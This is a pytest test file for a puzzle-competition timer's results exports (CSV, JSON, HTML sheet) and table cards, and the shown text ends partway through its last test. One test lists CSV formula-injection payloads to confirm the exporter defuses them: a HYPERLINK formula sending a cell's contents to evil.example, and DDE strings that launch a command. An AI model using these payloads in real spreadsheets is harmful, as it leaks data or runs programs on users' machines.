"""`tabletimer results` (CSV, JSON, the printable HTML sheet) and `tabletimer
cards` (table cards with a QR code per station), on event folders built as an
organizer does: `init`, the CSV files, operator actions in the log.  The
sheet is also rendered by headless Chromium (skipped without it, except under
CI=true).

Run as a script, this module writes the README's screenshot of the sheet:
    .venv/bin/python tests/outputs/test_results.py docs/images/results-sheet.png
"""

from __future__ import annotations

import argparse
import codecs
import csv
import io
import json
import os
import re
import shutil
import struct
import subprocess
import sys
import zlib
from datetime import datetime, timezone
from pathlib import Path

import pytest

from needs import require_tool
from tabletimer.hub.i18n.local_format import day
from rendering import chromium_or_skip, qr_codes_of_page, run_chromium

from tabletimer.hub.cli import main as cli
from tabletimer.hub.cli import outputs as cli_outputs
from tabletimer.hub.event.folder import event_folder
from tabletimer.hub.outputs import results
from tabletimer.hub.outputs import table_cards
from tabletimer.hub.event.fold.competition import Competition
from tabletimer.hub.protocol.keys import BoardKeys
from tabletimer.hub.core.service import HubService
from tabletimer.hub.event.log.store import EventStore
from tabletimer.hub.rules.formats import load_format
from clocks import FixedClock
from tabletimer.tools.testing.browser import HEADLESS_ARGS

T0 = 1_796_000_000_000          # the round start (hub ms)
S, M = 1000, 60_000
GENERATED = datetime(2026, 11, 30, 18, 5, tzinfo=timezone.utc)




def make_event(path: Path, preset: str, entrants: str, stations: str, actions,
               desk_ms: int = T0 + 6 * 3_600_000) -> Path:
    """An event folder with its log: (action, payload) pairs recorded as
    `tabletimer act` does."""
    event_folder.init(path, preset)
    (path / "entrants.csv").write_text(entrants, encoding="utf-8")
    (path / "stations.csv").write_text(stations, encoding="utf-8")
    ev = event_folder.load(path)
    store = EventStore(ev.db)
    try:
        # the desk's clock just after the round (an action's time must lie near the hub's clock)
        svc = HubService(store, BoardKeys(ev.keys_file), Competition(ev.format, ev.entrants, ev.stations),
                         FixedClock(desk_ms))
        for action, payload in actions:
            svc.act(action, payload, who="desk")
    finally:
        store.close()
    return path


def finish(entrant: str, at_ms: int, puzzle: int = 1, **missing) -> list:
    """A referee's recorded finish and its confirmation."""
    return [("press", {"entrant": entrant, "puzzle": puzzle, "at": T0 + at_ms}),
            ("confirm", {"entrant": entrant, "puzzle": puzzle, **missing})]


def rogaland_event(path: Path, guest: str = "<b>&Co", dq_reason: str = 'used a phone, "twice" <again>'
                   ) -> Path:
    """Rogaland individuals: 5 s per found missing piece, lost ones free;
    awards 1-3 for official (Rogaland) entrants only.  The fastest is
    unofficial (and has a name that needs escaping); one unofficial finish
    is not confirmed yet (provisional)."""
    entrants = ("id,name,kind,members,eligible,notes\n"
                "1,Kari Nordmann,individual,,yes,\n"
                f"2,{guest},individual,,no,guest from Bergen\n"
                "3,Ola Hansen,individual,,yes,\n"
                "4,Åse Øvrebø,individual,,yes,\n"
                "5,Per Berg,individual,,yes,\n"
                "6,Lise Dahl,individual,,yes,\n"
                "7,Nils Vik,individual,,no,\n"
                "8,Eva Lund,individual,,yes,\n")
    stations = "board,button,table,entrant,puzzle\n" + "".join(
        f"T0{(i + 1) // 2},{2 - i % 2},Table {(i + 1) // 2},{i},\n" for i in range(1, 9))
    actions = [("round_start", {"at": T0})]
    actions += finish("2", 55 * M)
    actions += finish("1", 58 * M + 30 * S, missing_found=2)          # + 10 s
    actions += finish("3", 58 * M + 35 * S, missing_lost=1)           # lost: no penalty
    actions += finish("4", 70 * M + 400)                              # truncated to 1:10:00
    actions += [("press", {"entrant": "7", "puzzle": 1, "at": T0 + 75 * M}),   # not confirmed
                ("count", {"entrant": "6", "puzzle": 1, "remaining": 40}),
                ("dns", {"entrant": "5"}),
                ("dq", {"entrant": "8", "reason": dq_reason})]
    return make_event(path, "rogaland-individuals", entrants, stations, actions)


def czech_event(path: Path) -> Path:
    """Czech championship individuals: everyone official, +10 s per missing
    piece, top 5 awarded, equal results share a place."""
    entrants = ("id,name\n1,Jana Nováková\n2,Petr Dvořák\n3,Tomáš Černý\n4,Eva Svobodová\n"
                "5,Jiří Král\n6,Lucie Malá\n7,Karel Veselý\n")
    stations = "board,button,table,entrant\n" + "".join(
        f"C{i:02d},1,Stůl {i},{i}\n" for i in range(1, 8))
    actions = [("round_start", {"at": T0})]
    actions += finish("1", 45 * M + 10 * S)
    actions += finish("2", 47 * M, missing_found=1)                  # 47:10 with the penalty
    actions += finish("3", 47 * M + 10 * S + 999)                    # 47:10 truncated: shared 2nd
    actions += finish("4", 80 * M)
    actions += [("count", {"entrant": "5", "puzzle": 1, "placed": 420}),
                ("count", {"entrant": "6", "puzzle": 1, "placed": 420}),
                ("dns", {"entrant": "7"})]
    return make_event(path, "cz-championship-individuals", entrants, stations, actions)


def teams_event(path: Path) -> Path:
    """CZJPA teams: 1000 + 500 pieces, one at a time in the team's order."""
    entrants = ("id,name,kind,members,eligible,notes\n"
                "A,Puzzle Pirates,team,Anna|Bára|Cyril|Dan,yes|yes|no|no,\n"
                "B,Edge Lords,team,Eva|Filip|Gita,yes|yes|yes,\n")
    stations = "board,button,table,entrant\nK1,1,Table A,A\nK1,2,Table B,B\n"
    actions = [("round_start", {"at": T0})]
    actions += finish("A", 50 * M, puzzle=2)
    actions += finish("A", 140 * M, puzzle=1, missing_found=1)
    actions += finish("B", 60 * M, puzzle=1)
    actions += [("count", {"entrant": "B", "puzzle": 2, "placed": 300})]
    return make_event(path, "czjpa-teams", entrants, stations, actions)


def results_args(d: Path, **kw) -> argparse.Namespace:
    base = {"dir": str(d), "csv": None, "json": None, "html": None, "title": None}
    return argparse.Namespace(**{**base, **kw})


def read_csv(path: Path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)                # spreadsheet programs see UTF-8
    assert b"\r\n" in raw
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


# ------------------------------------------------------------------------- CSV


def test_rogaland_csv_has_places_awards_splits_and_statuses(tmp_path, capsys):
    ev = rogaland_event(tmp_path / "rogaland-2027")
    out = tmp_path / "results.csv"
    assert cli_outputs.cmd_results(results_args(ev, csv=str(out))) == 0
    assert "provisional results: 1 entrant(s)" in capsys.readouterr().err
    rows = read_csv(out)
    assert list(rows[0]) == results.csv_columns(event_folder.load(ev).format)
    assert [(r["entrant"], r["place"], r["award_place"], r["official"], r["status"]) for r in rows] == [
        ("2", "1", "", "no", "finished"),        # fastest, but not from Rogaland: no award
        ("3", "2", "1", "yes", "finished"),      # a lost piece costs nothing
        ("1", "3", "2", "yes", "finished"),      # 58:30 + 2 found x 5 s
        ("4", "4", "3", "yes", "finished"),
        ("7", "5", "", "no", "finished"),
        ("6", "6", "", "yes", "unfinished"),
        ("8", "", "", "yes", "dq"),
        ("5", "", "", "yes", "dns")]
    by = {r["entrant"]: r for r in rows}
    assert by["2"]["name"] == "<b>&Co" and by["4"]["name"] == "Åse Øvrebø"
    kari = by["1"]
    assert (kari["time"], kari["time_ms"], kari["penalty"], kari["penalty_ms"]) == \
        ("0:58:30", "3510000", "0:00:10", "10000")
    assert (kari["net_time"], kari["net_time_ms"], kari["pieces"]) == ("0:58:40", "3520000", "498")
    assert (kari["p1_status"], kari["p1_time"], kari["p1_confirmed"], kari["p1_missing_found"],
            kari["p1_penalty_ms"]) == ("finished", "0:58:30", "yes", "2", "10000")
    assert by["3"]["p1_missing_lost"] == "1" and by["3"]["penalty_ms"] == "0"
    assert by["4"]["time"] == "1:10:00" and by["4"]["time_ms"] == "4200000"   # whole seconds
    assert by["7"]["provisional"] == "yes" and by["7"]["p1_confirmed"] == "no"
    assert all(by[e]["provisional"] == "no" for e in "123456")
    lise = by["6"]
    assert (lise["time"], lise["net_time"], lise["pieces"], lise["p1_status"], lise["p1_pieces"]) == \
        ("", "", "460", "unfinished", "460")
    assert by["8"]["reason"] == 'used a phone, "twice" <again>'
    assert (by["5"]["pieces"], by["5"]["p1_status"], by["5"]["time"]) == ("", "", "")


def test_czech_csv_shares_places_and_awards_five(tmp_path, capsys):
    ev = czech_event(tmp_path / "mcr-2027")
    assert cli_outputs.cmd_results(results_args(ev, csv="-")) == 0
    out = capsys.readouterr()
    assert "provisional" not in out.err
    assert not out.out.startswith("\ufeff")               # no BOM on standard output
    rows = list(csv.DictReader(io.StringIO(out.out)))
    assert [(r["entrant"], r["place"], r["award_place"]) for r in rows] == [
        ("1", "1", "1"), ("2", "2", "2"), ("3", "2", "2"), ("4", "4", "4"),
        ("5", "5", "5"), ("6", "5", "5"), ("7", "", "")]
    assert rows[1]["net_time"] == rows[2]["net_time"] == "0:47:10"
    assert rows[2]["time"] == "0:47:10" and rows[2]["time_ms"] == "2830000"
    assert [r["pieces"] for r in rows[4:6]] == ["420", "420"]
    assert all(r["official"] == "yes" for r in rows)
    assert rows[6]["status"] == "dns"


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_a_name_or_reason_a_spreadsheet_would_run_is_written_as_text(tmp_path, capsys):
    """CSV formula injection (issue #33 item 5), through `tabletimer results
    --csv`: a text cell that begins with = + - @ (names) or tab or CR (a dq
    reason as typed) gets a quote in front and is in double quotes; numbers
    stay bare; our import's read_cell gives each back as it was.  A name
    with its own leading quote is written as it is."""
    from tabletimer.hub.event.folder.csv_cells import read_cell

    names = FORMULAS + ["'t Hooft", "Jana"]
    reg = io.StringIO()
    csv.writer(reg).writerows([("id", "name"), *((str(i), n) for i, n in enumerate(names, 1))])
    stations = "board,button,table,entrant\n" + "".join(f"C{i:02d},1,Table {i},{i}\n" for i in range(1, 7))
    reasons = {"5": "\t=1+1", "6": "\r@SUM(1)"}
    actions = [("round_start", {"at": T0})]
    for i in range(1, 5):
        actions += finish(str(i), (44 + i) * M)
    actions += [("dq", {"entrant": e, "reason": r}) for e, r in reasons.items()]
    ev = make_event(tmp_path / "cup", "cz-championship-individuals", reg.getvalue(), stations, actions)
    assert cli_outputs.cmd_results(results_args(ev, csv="-")) == 0
    text = capsys.readouterr().out
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert [c for c in cells if c[:1] in DANGEROUS] == []
    by = {r["entrant"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert [by[str(i)]["name"] for i in range(1, 7)] == ["'" + f for f in FORMULAS] + ["'t Hooft", "Jana"]
    assert (by["5"]["reason"], by["6"]["reason"]) == ("'\t=1+1", "'\r@SUM(1)")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"' in text
    assert text.splitlines()[1].startswith('1,1,"1","\'=HYPERLINK(')       # place and award: numbers
    assert [read_cell(by[str(i)]["name"]) for i in range(1, 7)] == names
    assert [read_cell(by[e]["reason"]) for e in reasons] == list(reasons.values())


def test_multi_puzzle_csv_and_sheet_have_a_split_per_puzzle(tmp_path):
    ev = event_folder.load(teams_event(tmp_path / "teams"))
    res = results.load_results(ev.path)
    rows = list(csv.DictReader(io.StringIO(results.results_csv(res.rows, ev.format, ev.entrants))))
    a, b = rows
    assert (a["entrant"], a["status"], a["members"], a["official"]) == ("A", "finished", "Anna|Bára|Cyril|Dan", "yes")
    assert (a["p1_time"], a["p1_lap"], a["p1_missing_found"], a["p2_time"], a["p2_lap"]) == \
        ("2:20:00", "1:30:00", "1", "0:50:00", "0:50:00")   # one at a time: lap since the last finish
    assert a["net_time"] == "2:20:10" and a["p1_pieces"] == "999" and a["p2_pieces"] == "500"
    assert (b["status"], b["p1_status"], b["p2_status"], b["p2_pieces"], b["pieces"]) == \
        ("unfinished", "finished", "unfinished", "300", "1300")
    page = results.results_html("Teams", ev.format, res.rows, GENERATED, ev.entrants, res.start_ms)
    assert "P1 2:20:00 (1 missing) &middot; P2 0:50:00" in page
    assert "P1 1:00:00 &middot; P2 300 pcs" in page
    assert "<td class=\"members\">Anna, Bára, Cyril, Dan</td>" in page


def test_pieces_first_sheet_shows_pieces_and_the_last_whole_puzzle(tmp_path):
    entrants = "id,name,kind,members,eligible,notes\nA,Alpha,team,A1|A2|A3|A4,,\nB,Beta,team,B1|B2|B3|B4,,\n"
    stations = "board,button,table,entrant\nD1,1,Table 1,A\nD2,1,Table 2,B\n"
    actions = [("round_start", {"at": T0})] + finish("A", 60 * M, 1) + finish("A", 120 * M, 2)
    actions += [("count", {"entrant": "A", "puzzle": 3, "placed": 200})] + finish("B", 70 * M, 1)
    actions += [("count", {"entrant": "B", "puzzle": 2, "placed": 900})]
    ev = make_event(tmp_path / "dk", "dk-team-championship", entrants, stations, actions)
    res = results.load_results(ev)
    page = results.results_html("DM", res.format, res.rows, GENERATED, res.event.entrants, res.start_ms)
    assert '<th class="num">Pieces</th><th class="num">Deducted</th><th class="num">Last whole puzzle</th>' in page
    rows = _rows_of(page)
    assert "<td class=\"num\">2200</td>" in rows[0] and "<td class=\"num\">2:00:00</td>" in rows[0]
    assert "P1 1:10:00 &middot; P2 900 pcs" in rows[1]
    assert "Ranked by pieces placed" in page


def test_results_before_time_up_say_the_round_is_in_progress(tmp_path, capsys):
    """With 1:55 left: the JSON says in progress and provisional, the sheet
    has the banner, an entrant still solving is running (not unfinished),
    and the command warns."""
    now = int(datetime.now().timestamp() * 1000)
    start = now - (90 * M - 115 * S)
    entrants = "id,name\n1,Jana\n2,Petr\n"
    stations = "board,button,table,entrant\nC01,1,Table 1,1\nC01,2,Table 1,2\n"
    actions = [("round_start", {"at": start}), ("press", {"entrant": "1", "puzzle": 1, "at": start + 50 * M}),
               ("confirm", {"entrant": "1", "puzzle": 1})]
    ev = make_event(tmp_path / "cz", "cz-championship-individuals", entrants, stations, actions, desk_ms=now)
    res = results.load_results(ev, now_ms=now)
    assert res.in_progress and res.left_ms == 115 * S
    assert [(r.entrant, r.status, r.provisional) for r in res.rows] == [("1", "finished", False),
                                                                       ("2", "running", True)]
    doc = json.loads(results.results_json("Cup", res.format, res.rows, GENERATED, None, res.start_ms, res.left_ms))
    assert (doc["provisional"], doc["in_progress"], doc["left_ms"]) == (True, True, 115 * S)
    page = results.results_html("Cup", res.format, res.rows, GENERATED, None, res.start_ms, res.left_ms)
    assert "Round in progress, 0:01:55 left" in page and "running" in page
    csv_rows = list(csv.DictReader(io.StringIO(results.results_csv(res.rows, res.format))))
    assert [(r["status"], r["provisional"]) for r in csv_rows] == [("finished", "no"), ("running", "yes")]
    assert cli.main(["results", str(ev), "--json", str(tmp_path / "r.json")]) == 0
    assert "round in progress, 0:01:5" in capsys.readouterr().err        # 1:55 or a second less
    assert json.loads((tmp_path / "r.json").read_text())["in_progress"] is True
    # after time-up the same log gives final results
    final = results.load_results(ev, now_ms=start + 90 * M)
    assert not final.in_progress
    assert [(r.entrant, r.status) for r in final.rows] == [("1", "finished"), ("2", "unfinished")]


def test_results_before_an_armed_start_say_when_it_starts(tmp_path, capsys):
    """A start armed 4:32 ahead: the sheet's banner and the command say the
    round has not begun and when it starts, not "round in progress"."""
    now = int(datetime.now().timestamp() * 1000)
    start = now + 272 * S
    entrants = "id,name\n1,Jana\n2,Petr\n"
    stations = "board,button,table,entrant\nC01,1,Table 1,1\nC01,2,Table 1,2\n"
    ev = make_event(tmp_path / "cz", "cz-championship-individuals", entrants, stations,
                    [("round_start", {"at": start})], desk_ms=now)
    res = results.load_results(ev, now_ms=now)
    assert res.starts_in_ms == 272 * S
    page = results.results_html("Cup", res.format, res.rows, GENERATED, None, res.start_ms, res.left_ms,
                                starts_in=res.starts_in_ms)
    assert "Round not begun: starts in 0:04:32" in page and "in progress" not in page
    assert cli.main(["results", str(ev), "--json", str(tmp_path / "r.json")]) == 0
    assert "round not begun: starts in 0:04:" in capsys.readouterr().err


# ------------------------------------------------------------------------ JSON


def test_rogaland_json_has_a_header_and_the_standings(tmp_path, capsys):
    ev = rogaland_event(tmp_path / "rogaland-2027")
    assert cli_outputs.cmd_results(results_args(ev, json="-", title="Rogalandsmesterskapet")) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["title"] == "Rogalandsmesterskapet" and doc["format"] == "format"
    assert doc["format_title"] == "Rogaland championship - individuals"
    assert doc["round_start_ms"] == T0 and doc["provisional"] is True and doc["awards"] == 3
    assert datetime.fromisoformat(doc["generated_at"]).tzinfo is not None
    rows = doc["rows"]
    assert [r["entrant"] for r in rows] == ["2", "3", "1", "4", "7", "6", "8", "5"]
    kari = rows[2]
    assert (kari["place"], kari["award_place"], kari["net_time_ms"], kari["members"]) == (3, 2, 3_520_000, [])
    assert kari["splits"][0]["missing_found"] == 2 and kari["splits"][0]["confirmed"] is True
    assert rows[0]["official"] is False and rows[0]["name"] == "<b>&Co"
    assert rows[6]["status"] == "dq" and rows[6]["reason"].startswith("used a phone")


# ------------------------------------------------------------------------ HTML


def _text(page: str) -> str:
    """The page's visible text, roughly (tags out, entities decoded)."""
    import html
    body = page.split("<body>", 1)[-1]
    return html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body)))


def _rows_of(page: str) -> list[str]:
    tbody = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    return re.findall(r"<tr class=\"[^\"]*\">.*?</tr>", tbody, re.S)


def test_rogaland_sheet_marks_awards_unofficial_and_provisional(tmp_path):
    ev = rogaland_event(tmp_path / "rogaland-2027")
    sheet = tmp_path / "sheet.html"
    assert cli_outputs.cmd_results(results_args(ev, html=str(sheet), title="Rogaland <2027>")) == 0
    page = sheet.read_text(encoding="utf-8")
    # self-contained: no scripts, no external files
    assert "<script" not in page and "<link" not in page and "src=" not in page and "url(" not in page
    assert "@page{size:A4 portrait" in page
    # escaping of user text: the name, the dq reason, the title
    assert "<b>&Co" not in page and "&lt;b&gt;&amp;Co" in page
    assert "&quot;twice&quot; &lt;again&gt;" in page
    assert "<h1>Rogaland &lt;2027&gt;</h1>" in page
    assert f"Date: {day(datetime.fromtimestamp(T0 / 1000).date(), 'en')}" in page   # the round's
    rows = _rows_of(page)
    assert len(rows) == 8
    first = rows[0]
    assert "&lt;b&gt;&amp;Co" in first and 'class="badge unofficial"' in first
    assert 'class="medal' not in first and "awarded" not in first
    for row, award in zip(rows[1:4], (1, 2, 3)):
        assert f'<span class="medal m{award}" title="award place {award}">{award}</span>' in row
        assert row.startswith('<tr class="awarded')
    assert sum('class="badge unofficial"' in r for r in rows) == 2
    assert 'class="badge provisional"' in rows[4] and "Nils Vik" in rows[4]
    assert sum('class="badge provisional"' in r for r in rows) == 1
    assert 'class="banner"' in page and "Provisional results" in page
    text = _text(page)
    assert "DQ: used a phone, \"twice\" <again>" in text and "DNS" in text
    assert "0:58:40" in text and "0:00:10" in text and "460" in text
    footer = _text(page.split("<footer>", 1)[1])
    assert "award place" in footer and "prizes go to places 1-3" in footer
    assert "not eligible for an award place" in footer and "lives in Rogaland" in footer
    assert "provisional" in footer and "DNS / DQ" in footer and "5 s per missing piece" in footer


def test_the_unofficial_legend_says_what_unofficial_means(tmp_path):
    """The legend says an unofficial entrant is ranked but not eligible for
    an award, and who is eligible, apart: it read "unofficial - takes part
    and is ranked, but may not take an award place (participants from the
    Czech Republic)", as if unofficial meant from the Czech Republic."""
    entrants = "id,name,eligible\n1,Jana,yes\n2,Guest,no\n"
    ev = make_event(tmp_path / "czjpa", "czjpa-individuals", entrants,
                    "board,button,table,entrant\nC01,1,S1,1\nC01,2,S1,2\n",
                    [("round_start", {"at": T0})] + finish("2", 50 * M) + finish("1", 55 * M))
    loaded = event_folder.load(ev)
    res = results.load_results(ev)
    page = results.results_html("Cup", loaded.format, res.rows, GENERATED, loaded.entrants, res.start_ms)
    footer = _text(page.split("<footer>", 1)[1])
    legend = footer.split("unofficial", 1)[1].split("provisional", 1)[0].split("DNS / DQ", 1)[0]
    assert legend.strip() == ("not eligible for an award place: takes part and is ranked all the same. "
                              "Who is eligible for awards: participants from the Czech Republic."), footer
    teams = load_format("rogaland-teams")
    assert results.unofficial_text(teams).endswith(
        "lives in Rogaland or lived there continuously for more than 5 years (a team: at least 3 of its members).")


def test_czech_sheet_has_five_awards_shared_places_and_no_marks(tmp_path):
    ev = event_folder.load(czech_event(tmp_path / "mcr"))
    res = results.load_results(ev.path)
    page = results.results_html("MČR 2027", ev.format, res.rows, GENERATED, ev.entrants, res.start_ms)
    rows = _rows_of(page)
    medals = [re.search(r'title="award place (\d)"', r) for r in rows]
    assert [m.group(1) if m else None for m in medals] == ["1", "2", "2", "4", "5", "5", None]
    assert [re.search(r'<td class="place">(\d*)</td>', r).group(1) for r in rows] == \
        ["1", "2", "2", "4", "5", "5", ""]
    assert "badge unofficial" not in "".join(rows) and 'class="banner"' not in page
    assert "<th>Members</th>" not in page                  # individuals: no members column
    assert "prizes go to places 1-5" in page and "MČR 2027" in page


def test_the_desks_notes_stay_out_of_the_results_and_replay_and_go_to_the_desk(tmp_path, capsys):
    """A confirmation whose finish was voided is the ranking's remark for
    the desk: not in the CSV, the JSON, the sheet or replay's standings;
    said on standard error and among the console's alerts."""
    note = "confirmation of press op/2 has no finish to confirm"
    actions = [("round_start", {"at": T0}), ("press", {"entrant": "1", "puzzle": 1, "at": T0 + 45 * M}),
               ("confirm", {"press_id": "op/2"}), ("void", {"press_id": "op/2"}),
               ("count", {"entrant": "1", "puzzle": 1, "placed": 300}),
               ("count", {"entrant": "2", "puzzle": 1, "placed": 200})]
    ev = make_event(tmp_path / "mcr", "cz-championship-individuals", "id,name\n1,Jana\n2,Petr\n",
                    "board,button,table,entrant\nC01,1,Stůl 1,1\nC02,1,Stůl 2,2\n", actions)
    assert note in results.load_results(ev).rows[0].notes         # the ranking still says it
    for kind in ("csv", "json", "html"):
        assert cli_outputs.cmd_results(results_args(ev, **{kind: "-"})) == 0
        out = capsys.readouterr()
        assert note not in out.out and "notes" not in out.out, kind
        assert f"Jana (1): {note}" in out.err, kind
    assert cli.main(["replay", str(ev)]) == 0
    out = capsys.readouterr()
    assert note not in out.out and "Jana" in out.out
    assert f"note (for the desk, not in the results): Jana (1): {note}" in out.err
    loaded = event_folder.load(ev)
    store = EventStore(loaded.db)
    try:
        svc = HubService(store, BoardKeys(loaded.keys_file),
                         Competition(loaded.format, loaded.entrants, loaded.stations), FixedClock(T0 + 6 * 3_600_000))
        assert f"NOTE Jana (1): {note}" in svc.snapshot().alerts
    finally:
        store.close()


def test_results_refuse_a_folder_without_a_log_or_format(tmp_path, capsys):
    ev = event_folder.init(tmp_path / "fresh", "czjpa-individuals")
    assert cli_outputs.cmd_results(results_args(ev, csv=str(tmp_path / "x.csv"))) == 2
    assert "no event log yet" in capsys.readouterr().err
    assert not (ev / "events.sqlite").exists() and not (tmp_path / "x.csv").exists()
    assert cli_outputs.cmd_results(results_args(tmp_path / "nothing")) == 2
    assert "no format.toml" in capsys.readouterr().err
    assert cli_outputs.cmd_results(results_args(ev, csv="-", json="-")) == 2


def test_results_without_an_output_prints_the_standings(tmp_path, capsys):
    ev = czech_event(tmp_path / "mcr")
    assert cli_outputs.cmd_results(results_args(ev)) == 0
    out = capsys.readouterr().out
    assert "Jana Nováková" in out and "0:47:10" in out


def test_subcommands_register_on_a_parser(tmp_path, capsys):
    p = argparse.ArgumentParser(prog="tabletimer")
    sub = p.add_subparsers(dest="cmd", required=True)
    cli_outputs.add_subcommands(sub)
    a = p.parse_args(["results", "ev", "--csv", "-", "--html", "s.html"])
    assert (a.func, a.dir, a.csv, a.json, a.html) == (cli_outputs.cmd_results, "ev", "-", None, "s.html")
    a = p.parse_args(["cards", "ev", "--html", "c.html"])
    assert (a.func, a.html) == (cli_outputs.cmd_cards, "c.html")
    with pytest.raises(SystemExit):
        p.parse_args(["cards", "ev"])                         # --html is required
    ev = czech_event(tmp_path / "mcr")
    assert cli.main(["results", str(ev), "--json", str(tmp_path / "r.json")]) == 0
    assert json.loads((tmp_path / "r.json").read_text())["rows"][0]["name"] == "Jana Nováková"


# ----------------------------------------------------------------------- cards


def test_table_cards_list_each_tables_stations_with_a_qr_code(tmp_path, capsys):
    ev = rogaland_event(tmp_path / "rogaland-2027")
    out = tmp_path / "cards.html"
    assert cli_outputs.cmd_cards(argparse.Namespace(dir=str(ev), html=str(out), title=None)) == 0
    assert "4 table card(s), 8 station(s)" in capsys.readouterr().err
    page = out.read_text(encoding="utf-8")
    assert "<script" not in page and "<link" not in page and "src=" not in page
    cards = re.findall(r'<section class="card[^"]*">(.*?)</section>', page, re.S)
    assert [re.search(r"<h2>(.*?)</h2>", c).group(1) for c in cards] == \
        ["Table 1", "Table 2", "Table 3", "Table 4"]
    # no public URL: no codes (a station's text opens nothing on a phone), the page says why
    assert page.count("<svg") == 0 and "No codes on these cards" in page
    for card, entrants in zip(cards, (("1", "2"), ("3", "4"), ("5", "6"), ("7", "8"))):
        figures = re.findall(r'<figure class="station">(.*?)</figure>', card, re.S)
        assert len(figures) == 2
        for button, (fig, eid) in enumerate(zip(figures, entrants), start=1):
            board = f"T0{(int(eid) + 1) // 2}"
            payload = f"tabletimer:rogaland-2027:{board}:{button}:{eid}"
            assert f'<div class="payload">{payload}</div>' in fig
            assert f"Button {button}" in fig
            assert table_cards.parse_payload(payload) == ("rogaland-2027", board, button, eid)
    assert "<div class=\"who\">&lt;b&gt;&amp;Co</div>" in cards[0]
    assert "Åse Øvrebø" in cards[1]
    assert "@page{size:A4 portrait" in page and "dashed" in page


def test_relay_cards_name_the_puzzle_and_members(tmp_path):
    ev = event_folder.init(tmp_path / "cz teams:2027", "cz-championship-teams")   # ':' in the name
    (ev / "entrants.csv").write_text("id,name,kind,members,eligible,notes\n"
                                     "T:1,Team One,team,Ann|Bob|Cid|Dee,yes|yes|yes|yes,\n")
    (ev / "stations.csv").write_text("board,button,table,entrant,puzzle\n"
                                     + "".join(f"R1,{n},Table 1,T:1,{n}\n" for n in range(1, 9)))
    folder = event_folder.load(ev)
    page = table_cards.cards_html("cz teams:2027", folder.format, folder.entrants, folder.stations)
    assert page.count("<svg") == 0 and '<section class="card wide nocode">' in page
    assert "Button 3 &middot; puzzle 3" in page and "Ann, Bob, Cid, Dee" in page
    payload = "tabletimer:cz%20teams%3A2027:R1:8:T%3A1"
    assert f'<div class="payload">{payload}</div>' in page
    assert table_cards.parse_payload(payload) == ("cz teams:2027", "R1", 8, "T:1")
    with pytest.raises(ValueError):
        table_cards.parse_payload("tabletimer:a:b:c")


# -------------------------------------------------------------------- Chromium


def test_missing_chromium_skips_only_outside_ci(monkeypatch):
    monkeypatch.setattr(shutil, "which", lambda name: None)
    monkeypatch.setattr(os, "access", lambda path, mode: False)
    monkeypatch.setenv("CI", "true")
    with pytest.raises(pytest.fail.Exception, match="chromium is not installed"):
        chromium_or_skip()
    monkeypatch.delenv("CI")
    with pytest.raises(pytest.skip.Exception):
        chromium_or_skip()


def png_info(path: Path) -> tuple[int, int, int]:
    """(width, height, rows that are not plain white) of an 8-bit RGB/RGBA PNG.
    A row is white when its filtered bytes are only 0x00/0xff past the first
    pixel (what every PNG filter makes of a white row)."""
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pos, idat, ihdr = 8, [], None
    while pos < len(data):
        n, kind = struct.unpack(">I4s", data[pos:pos + 8])
        chunk = data[pos + 8:pos + 8 + n]
        assert zlib.crc32(kind + chunk) == struct.unpack(">I", data[pos + 8 + n:pos + 12 + n])[0]
        if kind == b"IHDR":
            ihdr = struct.unpack(">IIBBBBB", chunk)
        elif kind == b"IDAT":
            idat.append(chunk)
        pos += 12 + n
    assert ihdr is not None
    width, height, depth, colour = ihdr[:4]
    assert depth == 8 and colour in (2, 6)
    bpp = 3 if colour == 2 else 4
    raw = zlib.decompress(b"".join(idat))
    stride = 1 + width * bpp
    assert len(raw) == stride * height
    inked = sum(1 for y in range(height)
                if raw[y * stride + 1 + bpp:(y + 1) * stride].translate(None, b"\x00\xff"))
    return width, height, inked


def test_results_sheet_renders_in_chromium(tmp_path):
    """One Chromium run takes the screenshot, prints to PDF and dumps the DOM."""
    ev = rogaland_event(tmp_path / "rogaland-2027")
    sheet = tmp_path / "sheet.html"
    assert cli_outputs.cmd_results(results_args(ev, html=str(sheet), title="Rogalandsmesterskapet")) == 0
    exe = chromium_or_skip()
    png, pdf = tmp_path / "sheet.png", tmp_path / "sheet.pdf"
    dom = run_chromium(exe, tmp_path / "profile", f"--screenshot={png}", "--window-size=1240,1754",
                       f"--print-to-pdf={pdf}", "--no-pdf-header-footer", "--dump-dom",
                       sheet.resolve().as_uri()).decode()
    # the screenshot: the window's size, and not blank
    width, height, inked = png_info(png)
    assert (width, height) == (1240, 1754)
    assert inked > 150, f"only {inked} rows with content: a blank page?"
    # the page as the browser parsed it: names, places, marks
    text = _text(dom)
    for word in ("Rogalandsmesterskapet", "Kari Nordmann", "Åse Øvrebø", "<b>&Co", "unofficial",
                 "provisional", "0:58:40", "DQ: used a phone"):
        assert word in text, word
    assert "<b>&amp;Co" not in dom                          # the name stayed text, not markup
    # printed: A4
    boxes = re.findall(rb"/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]", pdf.read_bytes())
    assert len(boxes) == 1, boxes                            # 8 entrants: one page
    w, h = (float(x) for x in boxes[0])
    assert abs(w - 595.3) < 2 and abs(h - 841.9) < 2         # A4 in points
    pdftotext = require_tool("pdftotext", "apt-get install poppler-utils")
    text = subprocess.run([pdftotext, "-layout", str(pdf), "-"], capture_output=True, text=True,
                          timeout=30, check=True).stdout
    assert "Kari Nordmann" in text and "UNOFFICIAL" in text.upper()


def test_table_cards_qr_codes_decode(tmp_path):
    """Decode the rendered cards with zbarimg (zbar-tools; .ci/run installs
    it): each table's code is its page's address (issue 45 item 13: without
    a public URL the cards have none; with it, one a phone opens)."""
    ev = rogaland_event(tmp_path / "rogaland-2027")
    cards = tmp_path / "cards.html"
